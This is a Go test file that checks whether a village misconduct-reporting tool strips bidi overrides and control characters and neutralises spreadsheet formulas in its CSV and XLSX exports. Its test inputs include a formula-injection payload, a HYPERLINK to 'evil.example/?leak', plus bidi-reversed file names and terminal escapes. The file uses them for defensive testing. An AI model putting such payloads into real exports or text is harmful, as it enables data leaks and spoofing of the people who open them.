package main

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"xuncha/internal/syncbuf"
	"xuncha/internal/textsafe"
)

// TestTextSafeExport: a resident reports with a subject that is a spreadsheet formula wrapped in
// bidi overrides and a description holding control characters. The engine stores neither; in
// both exports the subject is text (an apostrophe before the "=", no formula in the xlsx), and
// no cell holds a control or bidi character.
func TestTextSafeExport(t *testing.T) {
	dbPath, env := testDB(t)
	dir := filepath.Dir(dbPath)
	srv := startServer(t, env, &syncbuf.Buffer{})

	const formula = `=HYPERLINK("http://evil.example/?leak","点此查看详情")`
	resident := newWebClient(t, srv.url, "resident")
	mustContain(t, webReport{category: "违反党纪", village: "红旗村", subject: "\u202E" + formula + "\u202C\u2066村主任\u2069",
		description: "今年三月\u202Eexe.fdp\u202C红旗村主任用公款请客，\x1b[31m花了两千元\x07。\r\n有发票为证。",
		name:        "王小明", phone: "13912345678"}.file(t, resident), "查询码")

	// The engine stripped them on the way in: the stored report holds none (the text is
	// in the file in clear, as the control shows).
	var stored []byte
	for _, f := range []string{"x.db", "x.db-wal"} {
		b, _ := os.ReadFile(filepath.Join(dir, f))
		stored = append(stored, b...)
	}
	if !bytes.Contains(stored, []byte("有发票为证")) {
		t.Fatal("the report text is not in the database files: the search looked in the wrong place")
	}
	// Each with its neighbours: a lone three-byte sequence turns up by chance in sealed bytes.
	for _, bad := range []string{"\u202E=HYPERLINK", "\u2066村主任", "请客，\x1b[31m", "两千元\x07", "\u202Eexe.fdp"} {
		if bytes.Contains(stored, []byte(bad)) {
			t.Errorf("the database holds %q", bad)
		}
	}

	xlsxPath, csvPath := exportFiles(t, env, dir)

	raw, err := os.ReadFile(csvPath)
	if err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(raw, []byte("\uFEFF")))).ReadAll()
	if err != nil || len(records) != 2 {
		t.Fatalf("csv: %d records, %v; want the header and one clue", len(records), err)
	}
	checkCells(t, "csv", records)
	if got := records[1][6]; got != "'"+formula+"村主任" {
		t.Errorf("csv subject cell = %q; want the formula as text", got)
	}

	x, err := excelize.OpenFile(xlsxPath)
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	for _, sheet := range x.GetSheetList() {
		rows, err := x.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		checkCells(t, "xlsx "+sheet, rows)
		for r, row := range rows {
			for c := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if f, _ := x.GetCellFormula(sheet, cell); f != "" {
					t.Errorf("xlsx %s!%s is a formula: %q", sheet, cell, f)
				}
			}
		}
		if sheet == x.GetSheetList()[0] && (len(rows) < 2 || rows[1][6] != "'"+formula+"村主任") {
			t.Errorf("xlsx subject cell: %q", rows)
		}
	}
}

// checkCells fails for a cell that a spreadsheet would read as a formula or that holds a
// control or bidi character.
func checkCells(t *testing.T, what string, rows [][]string) {
	t.Helper()
	for r, row := range rows {
		for c, v := range row {
			if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
				t.Errorf("%s row %d column %d starts a formula: %q", what, r+1, c+1, v)
			}
			if err := textsafe.CheckText(v); err != nil {
				t.Errorf("%s row %d column %d %v: %q", what, r+1, c+1, err, v)
			}
		}
	}
}

// TestTextSafeInput: a places file with a bidi override or a control character in a name is
// refused with the line and the character named, and nothing of it is imported; a command
// line with one is refused before it does anything.
func TestTextSafeInput(t *testing.T) {
	dbPath, env := testDB(t)
	dir := filepath.Dir(dbPath)
	for name, content := range map[string]string{
		"bidi":    "township,village,class\n新站镇,东风村,key\n新站镇,\u202E村阳向,general\n",
		"control": "township,village,class\n新站镇\x1b[2J,东风村,key\n",
		"isolate": "乡镇,村,类别\n天岗镇,民主村\u2067,重点村\n",
	} {
		path := writeFile(t, dir, name+".csv", []byte(content))
		var out, errb bytes.Buffer
		err := run(t.Context(), []string{"xuncha", "places", "import", path}, env, strings.NewReader(""), &out, &errb)
		if err == nil || !strings.Contains(err.Error(), "line ") || !strings.Contains(err.Error(), "U+") {
			t.Errorf("%s: places import = %v; want a refusal naming the line and the character", name, err)
		}
		if out.Len() != 0 {
			t.Errorf("%s: places import printed %q", name, out.String())
		}
	}
	var names bytes.Buffer
	for _, args := range [][]string{
		{"task", "add", "--township", "新站镇", "--title", "核查\u202E账目"},
		{"task", "add", "--township", "新站镇", "--title", "两行\n标题"},
		{"invite", "--role", "official", "--note", "张三\u200F"},
		{"clue", "add", "--subject", "\x00村主任", "--summary", "x"},
		{"places", "import", "samples/places.sample.csv\u202E"},
	} {
		var out, errb bytes.Buffer
		err := run(t.Context(), append([]string{"xuncha"}, args...), env, strings.NewReader(""), &out, &errb)
		if err == nil || !strings.Contains(err.Error(), "U+") && !strings.Contains(err.Error(), "line break") {
			t.Errorf("%q = %v; want a refusal naming the character", args, err)
		}
		names.WriteString(out.String())
	}
	if strings.Contains(names.String(), "task ") || strings.Contains(names.String(), "invitation") {
		t.Errorf("a refused command did something: %q", names.String())
	}
	// Nothing of the refused files or commands reached the database.
	out, _ := mustRun(t, env, "audit")
	for _, bad := range []string{"\u202E", "\u2067", "\x1b", "\u200F"} {
		if strings.Contains(out, bad) {
			t.Errorf("the audit log holds %q", bad)
		}
	}
}
